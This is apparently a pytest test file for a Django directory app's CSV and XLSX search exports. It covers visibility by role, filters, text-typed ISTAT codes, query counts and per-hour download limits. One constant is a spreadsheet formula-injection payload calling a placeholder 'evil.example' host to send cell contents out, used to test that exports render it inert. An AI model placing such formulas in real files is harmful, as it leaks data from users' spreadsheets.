"""The search results as CSV and XLSX: the rows of the page (its filters, published listings
only, whoever asks), the ISTAT code as text, the verification as a date, names never computed,
and a number of queries that does not grow with the rows."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from legami.core import roles
from legami.directory import services
from legami.directory.models import Activity

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Apri")'


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())  # Excel reads the accents as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix("\ufeff"))))


def _xlsx(response):
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def _published(world, personas, name, **fields):
    su = personas[roles.SUPERUSER]
    activity = services.activity_create(
        by=su,
        organisation=world["association"],
        place=world["place"],
        name=name,
        description="Descrizione.",
        **fields,
    )
    services.activity_set_status(by=su, activity=activity, status="published")
    return activity


@pytest.mark.parametrize("role", [None, roles.CITIZEN, roles.PROVIDER, roles.SUPERUSER])
def test_every_role_downloads_the_published_rows_of_the_page(client_for, world, role):
    # The page lists published listings to everyone: the draft outside is in no one's file.
    rows = _csv(client_for(role).get(reverse("directory:search"), {"export": "csv"}))
    names = [row[0] for row in rows[1:]]
    assert names == ["Camminata nei castagneti"]
    assert world["outside_activity"].name not in names
    header, row = rows[0], rows[1]
    assert len(header) == len(row) == 13
    assert row[1] == "Associazione Amiata Cammina"
    assert row[2:5] == ["Arcidosso", "053001", "Castello"]
    assert "Tessera: 5.00 EUR" in row[9]


def test_the_filters_of_the_page_apply(client, world):
    url = reverse("directory:search")
    assert len(_csv(client.get(url, {"export": "csv", "weekday": "TU"}))) == 2
    assert len(_csv(client.get(url, {"export": "csv", "weekday": "WE"}))) == 1  # header only
    other = _csv(client.get(url, {"export": "csv", "comune": "Casalecchio di Reno"}))
    assert other[1:] == []


def test_xlsx_keeps_the_istat_code_as_text_and_the_verification_as_a_date(client, world):
    sheet = _xlsx(client.get(reverse("directory:search"), {"export": "xlsx"}))
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 1
    istat, verified = rows[0][3], rows[0][12]
    assert istat.value == "053001" and istat.data_type == "s"
    assert verified.is_date
    assert verified.value.date() == Activity.objects.get(pk=world["activity"].pk).last_verified_on


def test_a_name_like_a_formula_is_inert(client, world, personas):
    _published(world, personas, HYPERLINK)
    url = reverse("directory:search")
    rows = _csv(client.get(url, {"export": "csv", "q": "HYPERLINK"}))
    assert "'" + HYPERLINK in [row[0] for row in rows]
    sheet = _xlsx(client.get(url, {"export": "xlsx", "sort": "name"}))
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    formula = next(c for c in cells if c.value == HYPERLINK)
    assert formula.data_type == "s"


def test_the_page_links_the_downloads_with_its_filters(client, world):
    body = client.get(reverse("directory:search"), {"weekday": "TU"}).content.decode()
    assert "weekday=TU&amp;export=csv" in body and "weekday=TU&amp;export=xlsx" in body


def test_queries_do_not_grow_with_the_rows(client, world, personas, django_assert_max_num_queries):
    url = reverse("directory:search")
    # The hourly count of downloads lives in the shared cache (the database cache here).
    with django_assert_max_num_queries(20 + 16) as few:
        _csv(client.get(url, {"export": "csv"}))
    for n in range(15):
        activity = _published(world, personas, f"Gruppo {n}", is_free=False)
        services.schedule_add(
            by=personas[roles.SUPERUSER],
            activity=activity,
            freq="WEEKLY",
            byday="MO,TH",
            opens_at=world["schedule"].opens_at,
            closes_at=world["schedule"].closes_at,
            valid_from=date(2025, 9, 1),
        )
    with django_assert_max_num_queries(len(few.captured_queries)):
        rows = _csv(client.get(url, {"export": "csv"}))
    assert len(rows) == 17
    with django_assert_max_num_queries(len(few.captured_queries)):
        _xlsx(client.get(url, {"export": "xlsx"}))


@pytest.mark.shared_cache
def test_downloads_are_counted_per_connection_and_hour(client, world):
    """Public tables, but building spreadsheets costs the server: a connection has
    DOWNLOADS_PER_HOUR of them, then a clear 429; the page itself still answers."""
    from legami.core.spreadsheets import DOWNLOADS_PER_HOUR

    url = reverse("directory:search")
    for _ in range(DOWNLOADS_PER_HOUR):
        assert client.get(url, {"export": "csv"}).status_code == 200
    refused = client.get(url, {"export": "xlsx"})
    assert refused.status_code == 429
    assert "Troppi download" in refused.content.decode()  # Italian, the default
    assert client.get(url).status_code == 200
    other = client.get(url, {"export": "csv"}, REMOTE_ADDR="192.0.2.9")
    assert other.status_code == 200
